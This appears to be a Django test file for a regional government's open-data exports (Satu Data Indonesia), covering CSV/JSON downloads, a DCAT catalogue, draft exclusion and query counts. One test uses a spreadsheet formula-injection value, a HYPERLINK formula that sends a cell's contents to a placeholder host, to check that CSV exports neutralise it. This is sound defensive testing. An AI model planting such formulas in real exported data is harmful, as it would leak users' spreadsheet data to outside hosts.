"""Open data (Satu Data Indonesia): a region's published figures as CSV and JSON with their dictionary,
and a DCAT catalogue. Published years only, whoever asks; a typed formula never runs in a spreadsheet;
a constant number of queries."""

import csv
import io
import json
from decimal import Decimal

from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from kinerja.core import year as core
from kinerja.web.performance import cycle, store
from kinerja.web.performance.models import Agency, AgencyYear, Membership, Region
from kinerja.web.performance.synthetic import build_region
from tests.web.conftest import make_user
from tests.web.helpers import client_for

DATA = "/kabupaten-banjar/data-terbuka"


def csv_rows(response) -> list[dict]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # a byte-order mark: spreadsheet programs then read UTF-8 right
    return list(csv.DictReader(io.StringIO(text[1:])))


def by_indicator(rows: list[dict], name: str) -> dict:
    (row,) = [r for r in rows if r["indikator"] == name]
    return row


def test_the_published_figures_of_a_year_as_csv(banjar):
    response = Client().get(f"{DATA}/capaian-2016.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="kabupaten-banjar-capaian-2016.csv"' in response["Content-Disposition"]
    rows = csv_rows(response)
    omzet = by_indicator(rows, "Jumlah omzet koperasi")
    # Rp. 64.184 (juta) ÷ Rp. 46.821 (juta) × 100 = 137,0838… → 137,08 (the form printed 137,09)
    assert (omzet["target"], omzet["realisasi"], omzet["capaian_persen"]) == ("46821", "64184", "137.08")
    assert omzet["target_tertulis"] == "Rp. 46.821 (juta)" and omzet["satuan"] == "Rp. (juta)"
    assert omzet["kategori"] == "Sangat Tinggi" and omzet["tahun"] == "2016"
    aktif = by_indicator(rows, "Persentase koperasi aktif")
    # 62,87 ÷ 62,50 × 100 = 100,592 → 100,59; machine numbers keep their decimals with '.'
    assert (aktif["target"], aktif["realisasi"], aktif["capaian_persen"]) == ("62.5", "62.87", "100.59")
    pelatihan = by_indicator(rows, "SDM yang mengikuti pelatihan")  # target 0 on the form
    assert pelatihan["target"] == "0" and pelatihan["capaian_persen"] == "" and pelatihan["kategori"] == ""
    assert "tidak dapat dihitung" in pelatihan["keterangan_capaian"]
    kendaraan = by_indicator(rows, "Pengadaan kendaraan dinas / operasional")  # 0 of 2 bought: 0,00
    assert (kendaraan["capaian_persen"], kendaraan["kategori"]) == ("0", "Sangat Rendah")
    assert {r["perangkat_daerah"] for r in rows} == {"Dinas Koperasi dan UMKM"}


def test_the_budget_as_json_with_its_dictionary(banjar):
    response = Client().get(f"{DATA}/anggaran-2016.json")
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    data = json.loads(response.content)
    assert (data["dataset"], data["wilayah"], data["tahun"]) == ("anggaran", "Kabupaten Banjar", 2016)
    assert [c["nama"] for c in data["kolom"]][:4] == ["wilayah", "perangkat_daerah", "tahun", "jenis"]
    (total,) = [r for r in data["baris"] if r["jenis"] == "jumlah"]
    # Rp. 2.114.446.240 ÷ Rp. 2.165.319.100 × 100 = 97,650… → 97,65
    assert (total["anggaran"], total["realisasi"], total["serapan_persen"]) == (2165319100, 2114446240, 97.65)


def test_the_catalogue_lists_published_years_and_the_dictionary(banjar):
    page = Client().get(f"{DATA}/").content.decode()
    for year in (2013, 2014, 2015, 2016):
        assert f"{DATA}/capaian-{year}.csv" in page and f"{DATA}/anggaran-{year}.json" in page
    assert "<code>capaian_persen</code>" in page and "<code>serapan_persen</code>" in page
    assert f"{DATA}/katalog.jsonld" in page
    assert f'href="{DATA}/"' in Client().get("/kabupaten-banjar/").content.decode()  # linked from the region


def test_drafts_are_never_open_data_even_for_those_who_may_read_them(banjar, draft_year, personas):
    reviewer = client_for(personas["reviewer"])  # reads the 2017 draft on the site …
    assert reviewer.get("/kabupaten-banjar/dinas-koperasi-dan-umkm/2017/").status_code == 200
    assert reviewer.get(f"{DATA}/capaian-2017.csv").status_code == 404  # … but it is not open data
    assert f"{DATA}/capaian-2017.csv" not in reviewer.get(f"{DATA}/").content.decode()


def test_a_reopened_year_stays_open_data_as_it_was_published(team):
    agency, people = team
    year, _ = store.open_year(people["operator"], agency, 2020)
    line = core.Line(indicator_id=None, ref="a", name="Jumlah koperasi aktif", unit="unit", sasaran="S",
                     figures={"target": core.Figure(Decimal(40)), "year": core.Figure(Decimal(30))})  # fmt: skip
    budget = [core.SetBudget("anggaran", Decimal(1_000_000)), core.SetBudget("realisasi", Decimal(900_000))]
    store.apply(people["operator"], year, [core.AddLine(line), *budget], origin="form")
    for who, action in (("operator", "submit"), ("reviewer", "verify"), ("head", "approve"), ("reviewer", "publish")):
        cycle.act(user=people[who], agency_year=AgencyYear.objects.get(pk=year.pk), action=action)
    cycle.act(user=people["admin"], agency_year=AgencyYear.objects.get(pk=year.pk), action="reopen",
              comment="Realisasi salah ketik.")  # fmt: skip
    indicator_id = store.load(AgencyYear.objects.get(pk=year.pk)).lines[0].indicator_id
    store.apply(people["operator"], AgencyYear.objects.get(pk=year.pk),
                [core.SetFigure(indicator_id, "year", Decimal(44))], origin="form")  # fmt: skip
    rows = csv_rows(Client().get(f"/{agency.region.slug}/data-terbuka/capaian-2020.csv"))
    # what was published: 30 ÷ 40 × 100 = 75,00, not the draft's 44 ÷ 40 × 100 = 110,00
    assert [(r["realisasi"], r["capaian_persen"]) for r in rows] == [("30", "75")]


def test_a_typed_formula_does_not_run_in_a_spreadsheet_but_json_keeps_the_text(team):
    agency, people = team
    year, _ = store.open_year(people["operator"], agency, 2020)
    name = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
    line = core.Line(indicator_id=None, ref="a", name=name, unit="%", sasaran="@SUM(1+1)",
                     figures={"target": core.Figure(Decimal(50)), "year": core.Figure(Decimal(-5))})  # fmt: skip
    store.apply(people["operator"], year, [core.AddLine(line)], origin="form")
    AgencyYear.objects.filter(pk=year.pk).update(status="published")
    base = f"/{agency.region.slug}/data-terbuka"
    (row,) = csv_rows(Client().get(f"{base}/capaian-2020.csv"))
    assert row["indikator"] == "'" + name and row["sasaran"] == "'@SUM(1+1)"
    assert row["realisasi"] == "-5"  # a machine number is a number, not text to defuse
    (kept,) = json.loads(Client().get(f"{base}/capaian-2020.json").content)["baris"]
    assert kept["indikator"] == name and kept["sasaran"] == "@SUM(1+1)" and kept["realisasi"] == -5


def test_a_target_range_has_its_bounds_and_its_text(team):
    agency, people = team
    year, _ = store.open_year(people["operator"], agency, 2020)
    target = core.Figure(None, "80–90")  # a range is kept as its text, never as one of its bounds
    line = core.Line(indicator_id=None, ref="a", name="Persentase layanan tepat waktu", unit="%", sasaran="S",
                     figures={"target": target, "year": core.Figure(Decimal(92))})  # fmt: skip
    store.apply(people["operator"], year, [core.AddLine(line)], origin="form")
    AgencyYear.objects.filter(pk=year.pk).update(status="published")
    (row,) = csv_rows(Client().get(f"/{agency.region.slug}/data-terbuka/capaian-2020.csv"))
    assert (row["target"], row["target_bawah"], row["target_atas"]) == ("", "80", "90")
    assert row["target_tertulis"] == "80–90 %"
    assert row["capaian_persen"] == "102.22"  # above the range: 92 ÷ 90 × 100 = 102,22


def test_unknown_datasets_formats_and_years_are_not_found(banjar):
    public = Client()
    for url in ("lainnya-2016.csv", "capaian-2016.xml", "capaian-2031.csv", "capaian-2016.CSV"):
        assert public.get(f"{DATA}/{url}").status_code == 404, url
    assert public.get("/kabupaten-entah/data-terbuka/").status_code == 404


def test_the_dcat_catalogue_points_at_every_download(banjar):
    public = Client()
    catalogue = json.loads(public.get(f"{DATA}/katalog.jsonld").content)
    assert catalogue["@type"] == "dcat:Catalog"
    datasets = catalogue["dcat:dataset"]
    assert len(datasets) == 4 * 2  # four published years × (capaian, anggaran)
    urls = [d["dcat:downloadURL"]["@id"] for ds in datasets for d in ds["dcat:distribution"]]
    assert len(urls) == 16
    for url in urls:
        assert url.startswith("http://testserver/kabupaten-banjar/data-terbuka/")
        assert public.get(url.removeprefix("http://testserver")).status_code == 200


def test_a_download_from_the_page_cache_keeps_its_file_name(cached, banjar):
    public = Client()
    first = public.get(f"{DATA}/capaian-2016.csv")
    second = public.get(f"{DATA}/capaian-2016.csv")
    assert second["X-Kinerja-Cache"] == "hit" and second.content == first.content
    assert second["Content-Disposition"] == first["Content-Disposition"]
    assert second["Content-Type"] == first["Content-Type"]


def test_a_download_takes_the_same_number_of_queries_for_3_or_12_agencies(db):
    counts = {}
    for agencies in (3, 12):
        region = build_region(agencies=agencies, indicators=5, years=2, name=f"Kabupaten Uji {agencies}")
        assert Agency.objects.filter(region=region).count() == agencies
        for fmt in ("csv", "json"):
            with CaptureQueriesContext(connection) as queries:
                response = Client().get(f"/{region.slug}/data-terbuka/capaian-2017.{fmt}")
            assert response.status_code == 200
            counts[(agencies, fmt)] = len(queries)
        rows = csv_rows(Client().get(f"/{region.slug}/data-terbuka/capaian-2017.csv"))
        assert len(rows) == agencies * 5
    assert counts[(3, "csv")] == counts[(12, "csv")] and counts[(3, "json")] == counts[(12, "json")]


def test_another_regions_years_are_not_mixed_in(banjar):
    other = Region.objects.create(name="Kabupaten Tapin")
    agency = Agency.objects.create(region=other, name="Dinas Koperasi Tapin")
    operator = make_user("tapin", Membership.Role.OPERATOR, agency)
    year, _ = store.open_year(operator, agency, 2016)
    line = core.Line(indicator_id=None, ref="a", name="Koperasi Tapin", unit="unit", sasaran="S",
                     figures={"target": core.Figure(Decimal(10)), "year": core.Figure(Decimal(9))})  # fmt: skip
    store.apply(operator, year, [core.AddLine(line)], origin="form")
    AgencyYear.objects.filter(pk=year.pk).update(status="published")
    rows = csv_rows(Client().get(f"{DATA}/capaian-2016.csv"))
    assert "Koperasi Tapin" not in {r["indikator"] for r in rows}
    (tapin,) = csv_rows(Client().get(f"/{other.slug}/data-terbuka/capaian-2016.csv"))
    assert (tapin["perangkat_daerah"], tapin["capaian_persen"]) == ("Dinas Koperasi Tapin", "90")  # 9 ÷ 10


def test_the_dictionary_is_read_in_english_and_the_files_stay_as_published(banjar):
    client = Client()
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    page = client.get(f"{DATA}/").content.decode()
    assert "Budget absorption: realisation ÷ budget × 100, two decimals." in page
    assert "Achievement of the agencies&#x27; performance indicators" in page
    assert "Serapan anggaran: realisasi" not in page
    # the downloads are the same files in either language: their column names and dictionary are Indonesian
    data = json.loads(client.get(f"{DATA}/anggaran-2016.json").content)
    assert data["kolom"][-1]["nama"] == "serapan_persen"
    assert json.loads(Client().get(f"{DATA}/anggaran-2016.json").content)["kolom"] == data["kolom"]
